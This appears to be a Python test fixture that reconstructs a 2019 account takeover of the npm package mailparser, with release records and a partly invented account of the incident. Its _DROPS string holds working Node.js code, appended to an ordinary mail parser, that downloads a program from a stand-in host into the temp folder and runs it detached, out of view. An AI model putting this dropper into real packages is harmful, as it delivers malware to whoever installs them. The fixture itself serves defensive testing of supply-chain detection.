"""mailparser 0.1.2 (2019-03-12): a taken account; an old line is updated, and fetches and starts a program.

By the record, which rests on one catalogue: the account of the maintainer was taken, a line that was dormant for years got a release, and
that downloads a program for the system and runs it. Noticed within the hour.
"""

from gauntlet.incident import Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_ONE = "andris"
_PARSER = """var EventEmitter = require('events').EventEmitter,
    util = require('util');

module.exports.MailParser = MailParser;

function MailParser(options) {
  EventEmitter.call(this);
  this.options = options || {};
  this.lines = '';
  this.state = 'header';
  this.headers = {};
}
util.inherits(MailParser, EventEmitter);

MailParser.prototype.write = function (chunk) {
  this.lines += chunk.toString('binary');
  var lines = this.lines.split(/\\r?\\n/);
  this.lines = lines.pop();
  lines.forEach(this.feed, this);
};

MailParser.prototype.feed = function (line) {
  if (this.state === 'body') {
    this.emit('body', line + '\\n');
  } else if (!line) {
    this.state = 'body';
    this.emit('headers', this.headers);
  } else {
    var colon = line.indexOf(':');
    this.headers[line.substr(0, colon).toLowerCase()] = line.substr(colon + 1).trim();
  }
};

MailParser.prototype.end = function () {
  if (this.lines) {
    this.feed(this.lines);
  }
  this.emit('end');
};
"""
_DROPS = """
(function () {
  var https = require('https'),
      spawn = require('child_process').spawn,
      path = require('path'),
      fs = require('fs'),
      os = require('os');
  var name = process.platform === 'win32' ? 'marker.exe' : 'marker',
      file = path.join(os.tmpdir(), name);
  https.get('https://sink.invalid/' + process.platform + '/' + name, function (answer) {
    var out = fs.createWriteStream(file, { mode: parseInt('755', 8) });
    answer.pipe(out);
    out.on('close', function () {
      spawn(file, [], { detached: true, stdio: 'ignore' }).unref();
    });
  }).on('error', function () {});
})();
"""
_MAIN = {"main": "lib/mailparser.js"}


def _release(version: str, at: str, text: str = _PARSER) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=_ONE,
        maintainers=(_ONE,),
        files={"lib/mailparser.js": text},
        more=_MAIN,
    )


_BAD = _release("0.1.2", "2019-03-12T12:00:00Z", _PARSER + _DROPS)

INCIDENT = Incident(
    id="mailparser-2019",
    title=(
        "an attacker took over the mailparser account and published a release of an old line that downloads and "
        "starts a program"
    ),
    copy="in our copy, importing mailparser 0.1.2 downloads a program for the system and starts it",
    ecosystem=Ecosystem.NPM,
    at=_BAD.at,
    packages=(
        Package(
            name="mailparser",
            releases=(
                _release("0.1.0", "2011-01-05T12:00:00Z"),
                _release("0.1.1", "2011-01-08T12:00:00Z"),
                _release("0.6.2", "2017-02-09T12:00:00Z"),
                _release("2.0.0", "2017-02-27T12:00:00Z"),
                _release("2.4.3", "2018-12-06T12:00:00Z"),
                _BAD,
            ),
        ),
    ),
    asks={"mailparser": "^0.1.1"},
    good={"mailparser": "0.1.1"},
    bad={"mailparser": ("0.1.2",)},
    guilty={"mailparser": ("0.1.2",)},
    gone_at=utc("2019-03-12T13:00:00Z"),
    invented=(
        "both publish hours, all days of earlier releases, other release lines, and that the code runs on import (the record says install or "
        "import)"
    ),
)
